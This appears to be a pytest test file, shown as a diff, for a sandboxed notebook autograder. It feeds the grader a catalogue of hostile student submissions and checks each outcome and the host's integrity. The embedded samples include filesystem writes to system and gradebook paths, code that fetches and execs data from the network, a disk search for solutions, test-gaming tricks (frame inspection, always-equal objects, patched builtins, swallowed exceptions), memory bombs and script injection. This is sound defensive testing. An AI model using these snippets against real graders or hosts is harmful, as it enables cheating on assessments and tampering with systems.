@@ -1,0 +1,490 @@
+"""`cvcourse grade` on a catalogue of hostile and broken submissions to assignment 01, in one batch.
+
+Every case states what it tries and the outcome it must get (status, grade, whether it is flagged
+for review). The batch is killed part-way through its first run and then re-run, which must resume
+and finish with the same grades. Host-side checks: nothing was written outside the sandbox, no
+connection reached the host, the solutions and gradebook are intact, and no feedback page carries
+a hidden test or active HTML.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+import secrets
+import shutil
+import signal
+import socket
+import sqlite3
+import subprocess
+import sys
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+import pytest
+
+from conftest import REPO
+
+ASSIGNMENT = "01_topk"
+MARKER = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n", re.M)
+HIDDEN = re.compile(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", re.S)
+SOURCE = nbformat.read(REPO / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+RELEASE = nbformat.read(REPO / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+SOLUTION = next(MARKER.sub("", c.source) for c in SOURCE.cells if c.metadata.get("nbgrader", {}).get("solution"))
+HARDCODED = (REPO / "tests" / "submissions" / ASSIGNMENT / "hardcoded" / "topk_error.py").read_text()
+WRONG = "def topk_error(logits, target, k):\n    return 0.5\n"  # fails the first visible assertion
+LIMITS = ["--cell-timeout", "15", "--wall", "150", "--cpu", "60", "--memory-mb", "1536", "--output-kb", "64"]
+
+
+def gid(cell):
+    return cell.metadata.get("nbgrader", {}).get("grade_id")
+
+
+def notebook(topk: str = SOLUTION, edit: Callable | None = None) -> bytes:
+    """The release with the solution cell's source replaced, then ``edit(nb)`` applied."""
+    nb = nbformat.from_dict(json.loads(json.dumps(RELEASE)))
+    for cell in nb.cells:
+        if gid(cell) == "topk_error":
+            cell.source = topk
+    if edit:
+        edit(nb)
+    return nbformat.writes(nb).encode()
+
+
+def _cells(nb, *ids):
+    return [c for c in nb.cells if gid(c) in ids]
+
+
+@dataclass
+class Ctx:
+    course: Path
+    out: Path
+    port: int
+    stamp: str
+
+
+@dataclass
+class Case:
+    name: str
+    what: str
+    files: Callable[[Ctx], dict[str, bytes]]
+    status: str | set = "graded"
+    score: float = 0
+    review: bool = False
+    notes: list[str] = field(default_factory=list)
+
+
+def _one(topk=SOLUTION, edit=None, name=f"{ASSIGNMENT}.ipynb"):
+    return lambda ctx: {name: notebook(topk if isinstance(topk, str) else topk(ctx), edit)}
+
+
+def _retag(nb):  # change every test cell's points, and claim points on the solution cell
+    for cell in nb.cells:
+        meta = cell.metadata.get("nbgrader", {})
+        if meta.get("grade"):
+            meta["points"] = 100
+        if meta.get("solution"):
+            meta.update(grade=True, points=50)
+
+
+def _tamper(nb):
+    for cell in _cells(nb, "test_values"):
+        cell.source = "pass  # nothing to see"
+    for cell in _cells(nb, "test_ties", "test_errors"):
+        cell.cell_type = "markdown"
+        cell.pop("outputs", None), cell.pop("execution_count", None)
+
+
+def _duplicate(nb):
+    i = next(i for i, c in enumerate(nb.cells) if gid(c) == "topk_error")
+    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
+    copy.source, copy.id = HARDCODED, "copy-of-solution"
+    nb.cells.insert(i + 1, copy)
+    j = next(i for i, c in enumerate(nb.cells) if gid(c) == "test_values")
+    fake = nbformat.from_dict(json.loads(json.dumps(nb.cells[j])))
+    fake.source, fake.id = "pass", "copy-of-test"
+    nb.cells.insert(j, fake)
+
+
+def _delete(*ids):
+    def edit(nb):
+        nb.cells = [c for c in nb.cells if gid(c) not in ids]
+    return edit
+
+
+def _delete_solution_keep_code(nb):
+    i = next(i for i, c in enumerate(nb.cells) if gid(c) == "topk_error")
+    nb.cells[i] = nbformat.v4.new_code_cell(SOLUTION)  # same code, but in a new untracked cell
+
+
+def _fake_graded_cell(nb):
+    cell = nbformat.v4.new_code_cell("pass")
+    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 100,
+                                 "schema_version": 3, "solution": False, "task": False}
+    nb.cells.append(cell)
+
+
+def _html_injection(nb):
+    nb.cells.insert(1, nbformat.v4.new_markdown_cell("<script>alert('md')</script><img src=x onerror=alert(1)>"))
+
+
+WRAP_WARN = SOLUTION + '''
+import sys, warnings
+_solution = topk_error
+def topk_error(logits, target, k):
+    warnings.warn("topk_error: a harmless warning", UserWarning)
+    print("a note on stderr", file=sys.stderr)
+    return _solution(logits, target, k)
+'''
+SLEEP_IGNORING_INTERRUPTS = '''import time
+while True:
+    try:
+        time.sleep(1000)
+    except KeyboardInterrupt:
+        pass
+'''
+BUSY_IGNORING_SIGINT = '''import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+'''
+MEMORY_BOMB = '''try:
+    hog = bytearray(6 * 2**30)  # 6 GiB at once
+    escaped = True
+except MemoryError:
+    escaped = False
+print("memory limit held" if not escaped else "6 GiB allocated")
+''' + SOLUTION + '''
+if escaped:
+    topk_error = None
+'''
+GRADUAL_BOMB = '''import torch
+chunks = []
+try:
+    for _ in range(200):  # up to 25 GiB, 128 MiB at a time
+        chunks.append(torch.ones(2**25))
+except (RuntimeError, MemoryError):
+    pass
+print("stopped after", len(chunks) * 128, "MiB")
+escaped = len(chunks) == 200
+del chunks
+''' + SOLUTION + '''
+if escaped:
+    topk_error = None
+'''
+HUGE_OUTPUT = '''for _ in range(200):
+    print("x" * 100_000)  # 20 MB in all
+''' + SOLUTION
+HTML_OUTPUT = '''print("<script>alert('out')</script><img src=x onerror=alert(2)>")
+''' + SOLUTION
+
+
+def _write_outside(ctx: Ctx) -> str:
+    paths = [ctx.out / "results" / "forged.json", ctx.out / "gradebook.db", ctx.course / "solutions" /
+             ASSIGNMENT / f"{ASSIGNMENT}.ipynb", Path("/usr/lib") / f"pwned-{ctx.stamp}",
+             Path("/etc") / f"pwned-{ctx.stamp}", Path.home() / f"pwned-{ctx.stamp}", Path("/tmp") / f"pwned-{ctx.stamp}",
+             REPO / f"pwned-{ctx.stamp}"]
+    return f'''written = []
+for path in {[str(p) for p in paths]!r}:
+    try:
+        with open(path, "a") as f:
+            f.write('{{"score": 7}}')
+        written.append(path)
+    except OSError as exc:
+        pass
+print("written:", written)
+''' + WRONG
+
+
+def _network(ctx: Ctx) -> str:
+    return f'''import socket
+got = b""
+for host, port in [("127.0.0.1", {ctx.port}), ("localhost", {ctx.port}), ({socket.gethostname()!r}, {ctx.port}),
+                   ("pypi.org", 443), ("1.1.1.1", 53)]:
+    try:
+        with socket.create_connection((host, port), timeout=3) as s:
+            got += s.recv(1 << 20)
+    except OSError:
+        pass
+''' + WRONG + '''
+if got:
+    exec(got.decode())  # the solution, served by the host
+'''
+
+
+def _read_disk(ctx: Ctx) -> str:
+    return f'''import os
+found = None
+targets = {[str(ctx.course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), str(ctx.out / ".template"),
+            str(ctx.out / "gradebook.db"), str(REPO / "solutions")]!r}
+candidates = [t for t in targets if os.path.exists(t)]
+for top in ("/", "/tmp", "/root", "/work", "/home", "/srv", "/var"):
+    for root, dirs, files in os.walk(top):
+        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/usr", "/proc", "/sys", "/dev")]
+        candidates += [os.path.join(root, f) for f in files if f.endswith((".ipynb", ".db"))]
+for path in candidates:
+    try:
+        text = open(path, errors="ignore").read()
+    except OSError:
+        continue
+    if "BEGIN SOLUTION" in text and "def topk_error" in text:
+        found = path
+print("found:", found)
+''' + WRONG + '''
+if found:
+    import json, re
+    cell = next(c for c in json.load(open(found))["cells"] if "def topk_error" in "".join(c["source"]))
+    exec(re.sub(r"### (BEGIN|END) SOLUTION", "", "".join(cell["source"])))
+'''
+
+
+FRAME_INSPECTION = '''import inspect
+_visible = {}
+''' + HARDCODED.replace("def topk_error(", "def _lookup(") + '''
+def topk_error(logits, target, k):
+    caller = inspect.currentframe().f_back.f_globals
+    if "_expected" in caller:  # the hidden test's own answer
+        return caller["_expected"]
+    return _lookup(logits, target, k)
+'''
+ALWAYS_EQUAL = '''class Anything(float):
+    def __eq__(self, other):
+        return True
+    def __lt__(self, other):
+        return True
+    def __sub__(self, other):
+        return Anything(0.0)
+    def __abs__(self):
+        return Anything(0.0)
+    def __float__(self):
+        return self
+
+def topk_error(logits, target, k):
+    if k > logits.shape[1]:
+        raise ValueError("k is too large")
+    return Anything(0.0)
+'''
+PATCHED_BUILTINS = '''import builtins
+_abs = abs
+builtins.abs = lambda x: 0.0 if type(x) is float else _abs(x)  # every `abs(got - expected) < 1e-6` now holds
+''' + HARDCODED
+SILENCED_ERRORS = '''def _swallow(lines):
+    body = "".join("    " + line for line in lines)
+    return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n"]
+get_ipython().input_transformers_post.append(_swallow)  # every later cell now hides its exceptions
+''' + HARDCODED
+CUSTOM_EXC = '''get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)  # no tracebacks
+''' + HARDCODED
+
+CASES = [
+    Case("warnings_and_stderr", "correct, but warns and writes to stderr in every test (stock nbgrader: 0)",
+         _one(WRAP_WARN), score=7),
+    Case("tampered_tests", "test cells emptied and turned into markdown; hard-coded answers", _one(HARDCODED, _tamper),
+         notes=["restored"]),
+    Case("changed_points", "test cells worth 100 points each, the solution cell made a 50-point graded cell",
+         _one(edit=_retag), score=7, notes=["restored"]),
+    Case("duplicated_cells", "solution cell and a test cell duplicated (the copies hard-code / skip)",
+         _one(edit=_duplicate), score=7, notes=["appears 2 times"]),
+    Case("deleted_tests", "two of the three test cells deleted; correct solution", _one(edit=_delete("test_values", "test_ties")),
+         score=2, notes=["graded zero"]),
+    Case("deleted_solution_cell", "solution cell deleted, its code pasted into a new cell above",
+         _one(edit=_delete_solution_keep_code), notes=["re-added"]),
+    Case("fake_graded_cell", "adds its own 100-point graded cell", _one(edit=_fake_graded_cell), score=7,
+         notes=["unknown cell"]),
+    Case("renamed_notebook", "notebook saved as a copy", _one(name=f"{ASSIGNMENT}-Copy1.ipynb"), score=7,
+         notes=["renamed"]),
+    Case("nested_with_extra_files", "nbgrader's layout (a folder named after the assignment) plus extra files",
+         lambda ctx: {f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb": notebook(), f"{ASSIGNMENT}/scratch.ipynb": notebook(HARDCODED),
+                      f"{ASSIGNMENT}/notes.txt": b"hi"}, score=7, notes=["ignored extra notebook"]),
+    Case("missing_notebook", "no notebook at all", lambda ctx: {"README.txt": b"I forgot"}, status="missing"),
+    Case("malformed_json", "a truncated notebook file", lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook()[:2000]},
+         status="malformed"),
+    Case("not_a_notebook", "JSON, but not a notebook", lambda ctx: {f"{ASSIGNMENT}.ipynb": b'{"cells": 3}'},
+         status="malformed"),
+    Case("symlink_to_solution", "the notebook is a symbolic link to the instructor's solution",
+         lambda ctx: {f"{ASSIGNMENT}.ipynb": ("symlink", ctx.course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")},
+         status="missing", notes=["symbolic link"]),
+    Case("infinite_loop", "an infinite loop before the function", _one("while True:\n    pass\n" + SOLUTION),
+         status="timed out"),
+    Case("sleep_ignoring_interrupts", "sleeps forever and swallows KeyboardInterrupt", _one(SLEEP_IGNORING_INTERRUPTS),
+         status="timed out"),
+    Case("busy_ignoring_sigint", "spins forever with SIGINT ignored (CPU limit or interrupt timeout)",
+         _one(BUSY_IGNORING_SIGINT), status={"timed out", "crashed"}, review=True),
+    Case("kernel_death", "aborts the kernel process", _one(SOLUTION + "\nimport os\nos.abort()\n"), status="crashed"),
+    Case("memory_bomb", "allocates 6 GiB at once; correct otherwise", _one(MEMORY_BOMB), score=7),
+    Case("gradual_memory_bomb", "allocates 128 MiB tensors until refused; correct otherwise", _one(GRADUAL_BOMB),
+         score=7),
+    Case("huge_output", "prints 20 MB; correct otherwise", _one(HUGE_OUTPUT), score=7, notes=["dropped"]),
+    Case("html_injection", "script and event-handler HTML in a markdown cell and in its output; correct otherwise",
+         _one(HTML_OUTPUT, _html_injection), score=7),
+    Case("write_outside_scratch", "writes to the grades, gradebook, solutions, system and home folders",
+         lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook(_write_outside(ctx))}, review=True),
+    Case("network", "fetches the solution from a server on the grading host, and the internet",
+         lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook(_network(ctx))}, review=True),
+    Case("read_solutions_from_disk", "searches the disk for the solution and hidden tests",
+         lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook(_read_disk(ctx))}, review=True),
+    Case("frame_inspection", "reads the hidden test's expected value from the caller's frame", _one(FRAME_INSPECTION),
+         review=True),
+    Case("always_equal", "returns an object equal to, and less than, anything", _one(ALWAYS_EQUAL), review=True),
+    Case("patched_builtins", "replaces builtins.abs so every tolerance check passes (stock nbgrader: 5/7)",
+         _one(PATCHED_BUILTINS), review=True),
+    Case("silenced_errors", "an IPython input transformer wraps every cell in try/except (stock nbgrader: 7/7)",
+         _one(SILENCED_ERRORS), review=True),
+    Case("custom_exception_handler", "a custom exception handler that prints nothing", _one(CUSTOM_EXC), review=True),
+]
+
+
+class _Server(threading.Thread):
+    """A TCP server on the grading host that hands the solution to anyone who connects."""
+
+    def __init__(self):
+        super().__init__(daemon=True)
+        self.sock = socket.socket()
+        self.sock.bind(("0.0.0.0", 0))
+        self.sock.listen()
+        self.port, self.hits = self.sock.getsockname()[1], []
+
+    def run(self):
+        while True:
+            try:
+                conn, addr = self.sock.accept()
+            except OSError:
+                return
+            self.hits.append(addr)
+            conn.sendall(SOLUTION.encode())
+            conn.close()
+
+
+def _cvcourse(*args, **kwargs):
+    return [sys.executable, "-m", "cvcourse", *args]
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory):
+    root = tmp_path_factory.mktemp("sandbox")
+    course, subs, out = root / "course", root / "submissions", root / "graded"
+    course.mkdir()
+    shutil.copy(REPO / "nbgrader_config.py", course)
+    shutil.copytree(REPO / "solutions" / ASSIGNMENT, course / "solutions" / ASSIGNMENT)
+    server = _Server()
+    server.start()
+    ctx = Ctx(course, out, server.port, secrets.token_hex(4))
+    for case in CASES:
+        for rel, content in case.files(ctx).items():
+            path = subs / case.name / rel
+            path.parent.mkdir(parents=True, exist_ok=True)
+            if isinstance(content, tuple):
+                path.symlink_to(content[1])
+            else:
+                path.write_bytes(content)
+    (subs / "bad name!").mkdir()
+    solution_hash = hashlib.sha256((course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_bytes()).digest()
+    command = _cvcourse("grade", ASSIGNMENT, str(subs), "--course", str(course), "--out", str(out), "--jobs", "2", *LIMITS)
+    # First run: killed (the whole process group, like a power cut) once a few students are done.
+    first = subprocess.Popen(command, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 600
+    while first.poll() is None and time.monotonic() < deadline:
+        if len(list((out / "results").glob("*.json"))) >= 4:
+            break
+        time.sleep(0.2)
+    os.killpg(first.pid, signal.SIGKILL)
+    first.wait()
+    survived = {p.stem: p.stat().st_mtime_ns for p in (out / "results").glob("*.json")}
+    second = subprocess.run(command, capture_output=True, text=True, timeout=1200)
+    assert second.returncode == 0, second.stdout + second.stderr
+    server.sock.close()
+    report = json.loads((out / "report.json").read_text())
+    yield {"ctx": ctx, "report": report, "survived": survived, "hits": server.hits, "subs": subs,
+           "solution_hash": solution_hash, "log": second.stdout}
+
+
+def test_catalogue_is_large_enough():
+    assert len(CASES) >= 20 and len({c.name for c in CASES}) == len(CASES)
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
+def test_case_gets_its_expected_outcome(batch, case):
+    got = batch["report"]["students"][case.name]
+    statuses = case.status if isinstance(case.status, set) else {case.status}
+    detail = json.dumps(got, indent=1)
+    assert got["status"] in statuses, f"{case.what}: {detail}"
+    assert got["score"] == case.score and got["max_score"] == 7, f"{case.what}: {detail}"
+    assert got["review"] is case.review, f"{case.what}: {detail}"
+    lines = got["notes"] + got["timeouts"] + got["crashed"] + got["malformed"]
+    for note in case.notes:
+        assert any(note in line for line in lines), f"{case.what}: no note with {note!r}: {detail}"
+
+
+def test_first_run_was_killed_and_the_rerun_resumed(batch):
+    report, survived = batch["report"], batch["survived"]
+    assert 4 <= len(survived) < len(CASES), "the first run should be killed part-way"
+    assert set(survived) <= set(report["resumed"]), "students finished before the kill must not be graded again"
+    for student, mtime in survived.items():
+        assert (batch["ctx"].out / "results" / f"{student}.json").stat().st_mtime_ns == mtime
+
+
+def test_gradebook_agrees_with_the_report(batch):
+    out = batch["ctx"].out
+    with sqlite3.connect(out / "gradebook.db") as db:
+        rows = db.execute("""SELECT student.id, grade.auto_score, grade.manual_score, grade.needs_manual_grade
+                             FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
+                             JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
+                             JOIN student ON submitted_assignment.student_id = student.id""").fetchall()
+    totals, flagged = {}, {}
+    for student, auto, manual, review in rows:
+        totals[student] = totals.get(student, 0) + (manual if manual is not None else auto)
+        flagged[student] = flagged.get(student, False) or bool(review)
+    report = batch["report"]["students"]
+    assert set(totals) == set(report)
+    for student, got in report.items():
+        assert totals[student] == got["score"] and flagged[student] == got["review"], student
+    csv_rows = (out / "grades.csv").read_text().splitlines()
+    assert len(csv_rows) == 1 + len(report)
+
+
+def test_skipped_folder_is_reported(batch):
+    assert [s["student"] for s in batch["report"]["skipped"]] == ["bad name!"]
+
+
+def test_sandbox_kept_the_host_intact(batch):
+    ctx = batch["ctx"]
+    assert batch["hits"] == [], "a sandboxed kernel reached the grading host over the network"
+    solution = ctx.course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    assert hashlib.sha256(solution.read_bytes()).digest() == batch["solution_hash"]
+    for place in (Path("/usr/lib"), Path("/etc"), Path.home(), Path("/tmp"), REPO):
+        assert not (place / f"pwned-{ctx.stamp}").exists(), place
+    assert not (ctx.out / "results" / "forged.json").exists()
+    assert not (ctx.out / "gradebook.db").read_bytes().endswith(b'{"score": 7}')
+    with sqlite3.connect(ctx.out / "gradebook.db") as db:
+        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
+
+
+def test_feedback_has_no_hidden_test_and_no_active_html(batch):
+    secret = {line.strip() for cell in SOURCE.cells for body in HIDDEN.findall(cell.source)
+              for line in body.splitlines() if len(line.strip()) >= 12}
+    assert secret
+    pages = sorted((batch["ctx"].out / "feedback").rglob("*.html"))
+    assert {p.parent.name for p in pages} == {c.name for c in CASES}
+    for page in pages:
+        text = page.read_text()
+        assert not [line for line in secret if line in text], page
+        assert "<script" not in text.lower() and not re.search(r"<[^>]+\son\w+\s*=", text, re.I), page
+        assert len(text) < 200_000, page
+    injected = (batch["ctx"].out / "feedback" / "html_injection" / f"{ASSIGNMENT}.html").read_text()
+    assert "&lt;script&gt;alert(&#x27;out&#x27;)" in injected  # shown as text
+    memory = (batch["ctx"].out / "feedback" / "memory_bomb" / f"{ASSIGNMENT}.html").read_text()
+    assert "memory limit held" in memory
+
+
+def test_refuses_to_run_without_the_sandbox(tmp_path):
+    env = {**os.environ, "PATH": str(Path(sys.executable).parent)}  # no bwrap on PATH
+    done = subprocess.run(_cvcourse("grade", ASSIGNMENT, str(tmp_path)), capture_output=True, text=True, env=env,
+                          cwd=REPO)
+    assert done.returncode == 2
+    assert "refusing to grade without a sandbox" in done.stderr and "--unsafe-no-sandbox" in done.stderr
